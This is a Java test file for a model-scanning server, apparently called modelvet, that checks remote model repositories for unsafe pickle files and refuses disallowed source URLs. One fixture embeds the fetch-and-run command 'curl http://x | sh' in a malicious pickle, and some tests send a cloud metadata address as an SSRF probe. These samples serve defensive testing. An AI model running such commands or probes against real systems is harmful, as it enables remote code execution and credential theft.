package io.modelvet.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.modelvet.server.auth.Role;
import io.modelvet.testutil.HubTestServer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import picocli.CommandLine;

/**
 * {@code {"source": "hf://..."}} against core's hub test server (a real HTTP server on 127.0.0.1
 * with the hub's API, range requests and a private repository), the server configured from the
 * command line exactly as {@code modelvet serve --allow-remote --hf-endpoint URL --token-file FILE}.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RemoteSourceTest {
  private static final String COMMIT = "0123456789abcdef0123456789abcdef01234567";
  private Path tmp;
  private HubTestServer hub;
  private ModelVetServer server;
  private Client client;
  private String submitter;

  @BeforeAll
  void start() throws Exception {
    tmp = Files.createTempDirectory("modelvet-remote");
    hub = new HubTestServer();
    hub.repo("acme/evil", COMMIT, false).add("model.pkl", Fixtures.maliciousPickle("curl http://x | sh")).add("weights.safetensors", Fixtures.safetensors(64, 1));
    hub.repo("acme/webform", COMMIT, false).add("model.pkl", Fixtures.maliciousPickle("id"));
    hub.repo("acme/private", "89abcdef0123456789abcdef0123456789abcdef", true).add("weights.safetensors", Fixtures.safetensors(8, 2));
    Path tokenFile = Files.writeString(tmp.resolve("hf-token"), HubTestServer.TOKEN + "\n");
    ServeCommand cmd = new ServeCommand();
    new CommandLine(cmd).parseArgs("--data-dir", tmp.resolve("data").toString(), "--port", "0", "--allow-remote",
        "--hf-endpoint", hub.endpoint().toString(), "--token-file", tokenFile.toString(), "--remote-host", "models.example.org");
    server = ModelVetServer.start(cmd.config());
    client = new Client(server.port());
    submitter = server.tokens().create("pipeline", Role.SUBMITTER);
  }

  @AfterAll
  void stop() {
    if (server != null) server.stop(Duration.ofSeconds(5));
    if (hub != null) hub.close();
    TestFiles.deleteTree(tmp);
  }

  @Test
  void hubRepositoryIsScannedOverRangeRequestsWithItsCommitAsVersion() throws Exception {
    Client.Response r = client.postJson("/api/scans", submitter, "{\"source\": \"hf://acme/evil\"}");
    assertThat(r.status()).as(r.body()).isEqualTo(202);
    JsonNode done = client.await("/api/scans/", r.json().path("id").asText(), submitter, 60);
    assertThat(done.path("status").asText()).as(done.toString()).isEqualTo("done");
    assertThat(done.path("verdict").asText()).isEqualTo("fail");
    assertThat(done.path("model").asText()).isEqualTo("hf://acme/evil");
    assertThat(done.path("digest").asText()).isEqualTo("commit:" + COMMIT);
    JsonNode files = done.path("report").path("files");
    assertThat(files).hasSize(2);
    JsonNode pickle = files.get(0);
    assertThat(pickle.path("path").asText()).isEqualTo("hf://acme/evil@" + COMMIT + "/model.pkl");
    assertThat(pickle.path("findings").get(0).path("ruleId").asText()).isEqualTo("pickle.denied-callable");
    assertThat(pickle.path("findings").get(0).path("severity").asText()).isEqualTo("CRITICAL");
    assertThat(pickle.path("findings").get(0).path("evidence").asText()).isEqualTo("os.system('curl http://x | sh')");
    assertThat(files.get(1).path("verdict").asText()).isEqualTo("clean");
    assertThat(hub.bytesServed("weights.safetensors")).isPositive();
    // a web URL of the same repository at the same commit belongs to the same model
    Client.Response web = client.postJson("/api/scans", submitter, "{\"source\": \"" + hub.endpoint() + "/acme/evil/tree/" + COMMIT + "\"}");
    assertThat(web.status()).isEqualTo(202);
    JsonNode again = client.await("/api/scans/", web.json().path("id").asText(), submitter, 60);
    assertThat(again.path("model").asText()).isEqualTo("hf://acme/evil");
    assertThat(client.get("/api/history?model=hf://acme/evil", submitter).json().path("scans")).hasSize(2);
  }

  @Test
  void theUploadPageOffersASourceFormWhoseScanIsShownLikeAnUpload() throws Exception {
    String session = client.signIn(submitter);
    Client.Response page = client.page("/upload", session);
    assertThat(page.body()).contains("id=\"source-form\"").contains("action=\"/scan-source\"");
    String csrf = Client.hiddenCsrf(page.body());
    assertThat(client.postForm("/scan-source", session, "source=hf%3A%2F%2Facme%2Fwebform").status()).as("no token").isEqualTo(403);
    Client.Response r = client.postForm("/scan-source", session, "_csrf=" + csrf + "&source=hf%3A%2F%2Facme%2Fwebform&model=");
    assertThat(r.status()).as(r.body()).isEqualTo(303);
    String location = r.raw().headers().firstValue("Location").orElseThrow();
    JsonNode done = client.await("/api/scans/", location.substring("/scans/".length()), submitter, 60);
    assertThat(done.path("verdict").asText()).isEqualTo("fail");
    String scan = client.page(location, session).body();
    assertThat(scan).contains("hf://acme/webform@" + COMMIT + "/model.pkl").contains("pickle.denied-callable");
    // refused sources come back as a page with the reason, and queue nothing
    Client.Response refused = client.postForm("/scan-source", session, "_csrf=" + csrf + "&source=https%3A%2F%2F169.254.169.254%2Flatest");
    assertThat(refused.status()).isEqualTo(400);
    assertThat(refused.body()).contains("--remote-host");
  }

  @Test
  void privateRepositoryIsReadWithTheTokenFromTheTokenFile() throws Exception {
    Client.Response r = client.postJson("/api/scans", submitter, "{\"source\": \"hf://acme/private\"}");
    JsonNode done = client.await("/api/scans/", r.json().path("id").asText(), submitter, 60);
    assertThat(done.path("status").asText()).as(done.toString()).isEqualTo("done");
    assertThat(done.path("verdict").asText()).isEqualTo("pass");
    assertThat(hub.served()).anyMatch(s -> s.path().startsWith("/acme/private/resolve/") && s.authorized() && s.status() == 206 && s.written() > 0);
  }

  @Test
  void missingRepositoryFailsTheJobWithTheHubsAnswer() throws Exception {
    Client.Response r = client.postJson("/api/scans", submitter, "{\"source\": \"hf://acme/nothing\"}");
    assertThat(r.status()).isEqualTo(202);
    JsonNode done = client.await("/api/scans/", r.json().path("id").asText(), submitter, 60);
    assertThat(done.path("status").asText()).isEqualTo("failed");
    assertThat(done.path("error").asText()).contains("hf://acme/nothing").contains("HTTP 401").doesNotContain(HubTestServer.TOKEN);
  }

  @Test
  void fileUrlsOnlyFromAllowedHostsOverHttps() throws Exception {
    Client.Response other = client.postJson("/api/scans", submitter, "{\"source\": \"https://169.254.169.254/latest/meta-data\"}");
    assertThat(other.status()).isEqualTo(400);
    assertThat(other.json().path("error").asText()).contains("--remote-host").contains("models.example.org");
    Client.Response plain = client.postJson("/api/scans", submitter, "{\"source\": \"http://models.example.org/m.onnx\"}");
    assertThat(plain.status()).isEqualTo(400);
    assertThat(plain.json().path("error").asText()).isEqualTo("file URLs must use https://");
    Client.Response bad = client.postJson("/api/scans", submitter, "{\"source\": \"hf://not a repo\"}");
    assertThat(bad.status()).isEqualTo(400);
    assertThat(bad.json().path("error").asText()).contains("not a repository name");
    assertThat(client.get("/api/scans?limit=500", submitter).json().path("scans").toString()).doesNotContain("169.254").doesNotContain("not a repo");
  }
}
